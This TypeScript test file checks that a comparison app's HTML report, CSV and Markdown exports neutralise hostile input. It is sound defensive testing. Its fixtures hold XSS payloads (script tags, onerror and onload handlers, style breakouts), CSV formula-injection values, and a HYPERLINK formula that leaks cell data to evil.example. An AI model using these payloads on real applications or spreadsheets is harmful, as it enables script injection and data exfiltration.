import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { Marked } from 'marked';
import { compareResults } from '@/results/compare';
import { normalizeResponse } from '@/results/normalize';
import { buildDifferencesCsv } from '@/features/compare/export-csv';
import { buildResultMarkdown } from '@/features/compare/export-markdown';
import { buildCompareReport } from '@/features/compare/export-report';
import { PaneExports } from '@/features/compare/pane-exports';
import { toPaneInfos } from '@/features/compare/pane-model';
import { buildRun } from '@/features/compare/testing/fixtures';
import {
  ALL_HOSTILE_MARKUP,
  HOSTILE_NAME,
  HOSTILE_SNIPPETS,
  deeplyNested,
  hostileResponse,
} from '../fixtures/hostile-result';

/**
 * Exports leave the app's sanitiser behind: the file is opened by another
 * program (a browser, a spreadsheet, a Markdown viewer). Whatever document
 * text, names and labels hold, the files must stay inert there too.
 */

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';
const HOSTILE_LABEL = `${HOSTILE_NAME} "quoted" 'single' </style><script>window.__pwned=1</script>`;

const baseline = normalizeResponse(
  hostileResponse({
    chunks: [
      {
        blocks: ['Stays the same', 'Will be removed <b onmouseover=x>bold</b>'],
      },
    ],
    extract: { [FORMULA]: '+1+1', total: '@SUM(A1:A9)' },
    splitNames: ['-2+3', 'Same'],
  }),
);
const candidate = normalizeResponse(
  hostileResponse({
    chunks: [
      {
        content: `${ALL_HOSTILE_MARKUP}\n\n<table><tr><td colspan="2">Plain cell</td></tr></table>`,
        blocks: [
          'Stays the same',
          ...Object.values(HOSTILE_SNIPPETS),
          FORMULA,
          '\t=1+1',
          '\r=1+1',
          'He said "hi"\nthen </style> left',
        ],
        type: '<svg onload=x>Type',
      },
    ],
    extract: { [FORMULA]: '-1-1', total: HOSTILE_SNIPPETS.script },
    splitNames: [HOSTILE_SNIPPETS.imgOnerror, 'Same'],
  }),
);
const comparison = compareResults(baseline, candidate);
const [basePane, candPane] = toPaneInfos([
  buildRun({
    documentName: HOSTILE_NAME,
    pipelineLabel: 'base',
    pipelineId: 'pl-base',
  }),
  buildRun({
    documentName: HOSTILE_NAME,
    pipelineLabel: HOSTILE_LABEL,
    pipelineId: '`pl` <img src=x onerror=alert(1)>',
    status: 'completed',
  }),
]);
if (!basePane || !candPane) throw new Error('fixture');

/* eslint-disable testing-library/no-node-access, jest-dom/prefer-to-have-text-content, jest-dom/prefer-to-have-attribute --
   The exports are files, not the app's page: they are checked as parsed
   documents, element by element (jest-dom's matchers refuse elements of a
   DOMParser document). */

/** Asserts that a parsed document holds no active markup of the content. */
function expectInertDocument(doc: Document, allowedAttributes: string[]) {
  expect(
    doc.querySelectorAll(
      'script, iframe, object, embed, form, base, link, img, svg, math, video, audio, source, picture, input, button',
    ),
  ).toHaveLength(0);
  for (const element of doc.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      expect(allowedAttributes).toContain(attribute.name);
    }
  }
}

describe('HTML report', () => {
  const html = buildCompareReport({
    documentName: HOSTILE_LABEL,
    generatedAt: Date.UTC(2026, 0, 2),
    baseline,
    panes: [
      { pane: basePane, result: baseline, comparison: null, isBaseline: true },
      { pane: candPane, result: candidate, comparison, isBaseline: false },
      {
        pane: {
          ...candPane,
          runId: 'failed',
          status: 'failed',
          failureMessage: HOSTILE_LABEL,
        },
        result: null,
        comparison: null,
        isBaseline: false,
      },
    ],
  });
  const doc = new DOMParser().parseFromString(html, 'text/html');

  it('holds no element or attribute from the content, in text or attribute contexts', () => {
    // Only the report's own attributes exist: a quote in a name cannot
    // open a new attribute, a tag cannot open an element.
    expectInertDocument(doc, [
      'lang',
      'charset',
      'http-equiv',
      'content',
      'name',
      'scope',
      'class',
    ]);
    expect(doc.querySelectorAll('meta[http-equiv]')).toHaveLength(1);
  });

  it('keeps the inline CSS closed: a "</style>" in the text stays text', () => {
    const styles = doc.querySelectorAll('style');
    expect(styles).toHaveLength(1);
    expect(styles[0]?.textContent).not.toContain('pwned');
    expect(doc.body.textContent).toMatch(/then <\/style> left/);
  });

  it('shows names, labels, failure messages, block types, fields and splits as text', () => {
    const text = doc.body.textContent ?? '';
    expect(doc.title).toBe(`Comparison report: ${HOSTILE_LABEL}`);
    expect(text).toContain(HOSTILE_LABEL);
    expect(text).toContain('`pl` <img src=x onerror=alert(1)>');
    expect(text).toContain(HOSTILE_SNIPPETS.script);
    expect(text).toContain(HOSTILE_SNIPPETS.imgOnerror);
    expect(text).toContain('<svg onload=x>Type');
    expect(text).toContain(FORMULA);
  });
});

/** RFC 4180 parser, enough to read the export back cell by cell. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i];
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && csv[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('CSV of differences', () => {
  const csv = buildDifferencesCsv(baseline, [
    {
      name: HOSTILE_LABEL.replace('base', '=cmd|'),
      result: candidate,
      comparison,
    },
    { name: '@SUM(1)', result: candidate, comparison },
  ]);
  const rows = parseCsv(csv);

  it('every row has the seven columns: quotes, commas and newlines stay inside their cell', () => {
    expect(rows.length).toBeGreaterThan(10);
    for (const row of rows) expect(row).toHaveLength(7);
    const cells = rows.flat();
    expect(cells).toContain('He said "hi"\nthen </style> left');
  });

  it('no cell starts with a formula character (= + - @ tab CR): each gets a quote prefix', () => {
    const cells = rows.flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).toContain("'\t=1+1");
    expect(cells).toContain("'\r=1+1");
    expect(cells).toContain("'@SUM(1)");
    expect(cells).toContain("'-1-1");
    expect(cells).toContain("'+1+1");
    expect(cells).toContain("'-2+3");
  });
});

describe('Markdown export', () => {
  const markdown = buildResultMarkdown(candPane, candidate);
  // A Markdown viewer that does not sanitise: what the export must survive.
  const naive = new Marked({ gfm: true });
  const doc = new DOMParser().parseFromString(
    naive.parse(markdown, { async: false }),
    'text/html',
  );

  it('rendered by a Markdown viewer that does not sanitise, holds nothing active', () => {
    expectInertDocument(doc, ['href', 'align', 'colspan', 'rowspan', 'start']);
    for (const link of doc.querySelectorAll('a')) {
      expect(link.getAttribute('href')).toMatch(/^(https?:|mailto:|#)/);
    }
  });

  it('keeps names and content readable as text, and HTML tables as tables', () => {
    const heading = doc.querySelector('h1');
    expect(heading?.textContent).toBe(`${HOSTILE_NAME}: ${HOSTILE_LABEL}`);
    expect(doc.body.textContent).toMatch(/`pl` <img src=x onerror=alert\(1\)>/);
    expect(doc.body.textContent).toMatch(/Visible after script/);
    expect(doc.body.textContent).toMatch(
      /<script>window\.__pwned = 1<\/script>/,
    );
    expect(
      [...doc.querySelectorAll('table td')].map((td) => td.textContent),
    ).toContain('Plain cell');
    // A table with a remote background is shown as its markup instead.
    expect(doc.body.textContent).toMatch(/Visible cell/);
    // Raw HTML links (attributes beyond colspan/rowspan/align) are text too.
    expect(doc.body.textContent).toContain('Visible external link');
  });
});

/* eslint-enable testing-library/no-node-access, jest-dom/prefer-to-have-text-content, jest-dom/prefer-to-have-attribute */

describe('JSON export of a response nested 10,000 levels deep', () => {
  it('says why it cannot be written instead of failing silently', async () => {
    const user = userEvent.setup();
    const raw = {
      ...hostileResponse({ chunks: [{ blocks: ['Hello'] }] }),
      deep: deeplyNested(10_000),
    };
    render(
      <PaneExports pane={candPane} raw={raw} result={normalizeResponse(raw)} />,
    );
    const toolbar = screen.getByRole('toolbar', {
      name: `Export ${candPane.name}`,
    });
    await user.click(
      within(toolbar).getByRole('button', { name: 'Export JSON' }),
    );
    expect(within(toolbar).getByRole('status')).toHaveTextContent(
      'Could not export JSON: the response is nested too deeply to be written out as JSON.',
    );
  });
});
